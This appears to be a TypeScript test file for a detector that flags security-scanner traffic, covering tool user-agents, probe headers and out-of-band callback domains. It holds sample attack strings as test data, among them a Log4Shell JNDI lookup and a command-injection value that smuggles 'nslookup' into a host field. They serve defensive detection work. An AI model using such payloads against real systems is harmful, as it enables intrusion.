import { createDetectorInput, makePoint } from '../../detector-input';
import type { Point } from '../../types';
import { scannerDetector } from './index';

const conf = (v: string, path: string, o: Partial<Point> = {}): number =>
  scannerDetector.detect(createDetectorInput(makePoint(v, path, { name: path.split('.').slice(1).join('.'), ...o })))?.confidence ?? 0;

describe('scannerDetector', () => {
  it.each([
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'xsser/1.8.4 (https://xsser.03c8.net)',
    'Mozilla/5.0 (compatible; Dalfox/2.9)',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'Fuzz Faster U Fool v2.0.0',
    'gobuster/3.5',
    'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  ])('detects user-agent %s', (ua) => expect(conf(ua, 'header.user-agent')).toBeGreaterThanOrEqual(0.5));

  it('detects probe headers by name', () => {
    expect(conf('Netsparker', 'header.x-scanner')).toBeGreaterThanOrEqual(0.5);
    expect(conf('acunetix-product', 'header.acunetix-product', { isKey: true })).toBeGreaterThanOrEqual(0.5);
  });

  it.each([
    ['http://abc123.burpcollaborator.net/x', 'query.url'],
    ['${jndi:ldap://c6x.oast.pro/a}', 'header.x-api-version'],
    ['x; nslookup abc.oastify.com', 'body.json.host'],
    ['ping d1f.dnslog.cn', 'query.ip'],
  ])('detects OAST domain %s', (v, p) => expect(conf(v, p)).toBeGreaterThanOrEqual(0.5));

  it.each([
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36', 'header.user-agent'],
    ['sqlmap tutorial for beginners', 'query.q'],
    ['I love toast.professional breakfasts', 'query.q'],
    ['https://www.roast.pro/menu', 'query.url'],
  ])('ignores %s', (v, p) => expect(conf(v, p)).toBeLessThan(0.5));
});
